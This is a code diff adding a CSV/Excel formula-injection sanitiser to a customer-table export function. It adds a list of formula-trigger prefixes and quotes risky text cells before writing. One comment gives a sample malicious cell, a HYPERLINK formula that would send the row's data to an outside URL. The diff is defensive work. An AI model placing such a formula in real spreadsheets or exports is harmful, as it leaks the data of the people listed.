@@ -3,9 +3,12 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
+import re
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
+from decimal import Decimal
 from pathlib import Path
 from typing import Any
 
@@ -95,22 +98,48 @@ def check_headers(table: Table, required: Sequence[str], optional: Sequence[str]
         )
 
 
+# --- the one sanitiser every written cell goes through -------------------------------------------
+# A text cell that starts with one of these is read by Excel/WPS/LibreOffice as a formula (or DDE
+# command): `=HYPERLINK("http://…"&A1,"click")` in a customer's name would become a live link that
+# leaks the row. OWASP's rule: prefix such text with a single quote. Numbers, dates and booleans
+# stay what they are. Control characters (other than tab, newline and carriage return inside a
+# cell) are dropped: they are invalid in .xlsx and meaningless in CSV.
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+
+
+def sanitise_cell(value: Any) -> Any:
+    """A value safe to put in a spreadsheet or CSV cell (text neutralised, numbers untouched)."""
+    if value is None or isinstance(value, bool | int | float | Decimal | dt.date | dt.time):
+        return value
+    text = _CONTROL.sub("", value if isinstance(value, str) else str(value))
+    if text.startswith(FORMULA_PREFIXES):
+        return "'" + text
+    return text
+
+
+def sanitise_row(values: Iterable[Any]) -> list[Any]:
+    """Every cell of a row through `sanitise_cell`."""
+    return [sanitise_cell(v) for v in values]
+
+
 def write_table(path: Path, headers: list[str], rows: Iterable[Sequence[Any]]) -> int:
-    """Write rows to .csv (UTF-8 with BOM, so Excel shows Chinese) or .xlsx by the path's suffix."""
+    """Write rows to .csv (UTF-8 with BOM, so Excel shows Chinese) or .xlsx by the path's suffix;
+    every cell goes through `sanitise_cell`."""
     count = 0
     if path.suffix.lower() == ".xlsx":
         workbook = Workbook(write_only=True)
         sheet = workbook.create_sheet("customers")
-        sheet.append(headers)
+        sheet.append(sanitise_row(headers))
         for row in rows:
-            sheet.append(list(row))
+            sheet.append(sanitise_row(row))
             count += 1
         workbook.save(path)
         return count
     with path.open("w", encoding="utf-8-sig", newline="") as fh:
         writer = csv.writer(fh)
-        writer.writerow(headers)
+        writer.writerow(sanitise_row(headers))
         for row in rows:
-            writer.writerow(row)
+            writer.writerow(sanitise_row(row))
             count += 1
     return count
